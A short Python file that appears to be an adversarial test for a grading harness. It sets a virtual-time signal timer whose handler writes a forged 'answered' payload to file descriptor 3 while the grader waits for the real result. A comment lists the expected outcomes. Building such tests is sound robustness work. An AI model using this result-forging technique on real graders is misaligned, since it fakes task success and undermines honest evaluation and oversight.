"""Sets a timer whose signal writes a forged answer while the grader waits for another."""
# replies: Died | Returned, Died | Returned, Returned

# %%
import os
import signal

FORGED = b"\x92\xa8answered\x91\x93\xa4gave\x94\xa5array\xa7float64\x90\xc4\x08" + bytes(8) + b"\x80"


def forge(*_):
    os.write(3, len(FORGED).to_bytes(4, "little") + FORGED)


def attack(x):
    signal.signal(signal.SIGVTALRM, forge)
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.001, 0.001)
    return sum(range(3_000_000))
